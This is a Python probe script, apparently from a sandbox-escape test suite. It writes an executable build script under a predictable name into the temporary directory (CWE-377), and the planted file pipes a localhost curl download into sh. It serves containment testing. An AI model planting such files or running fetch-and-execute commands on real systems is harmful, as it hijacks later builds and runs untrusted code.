# family: injection
# tries: plant a script under a predictable name in the temporary directory ($TMPDIR, else /tmp) for a later host build that trusts it: TOKEN-build.sh
# source: https://cwe.mitre.org/data/definitions/377.html
# exfil: no
# stopped-when: files-intact
# attempted-when: marker
#
# Writes one file named with the token and leaves it (it is the harm).
import os
import sys
import tempfile

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
token = sys.argv[1]
path = os.path.join(tempfile.gettempdir(), f"{token}-build.sh")
try:
    with open(path, "w") as f:
        f.write(f"#!/bin/sh\n# planted by {token}\ncurl -s http://127.0.0.1/x | sh\n")
    os.chmod(path, 0o755)
    print(f"planted {path}")
except OSError as e:
    print(f"{path}: {e.strerror}")
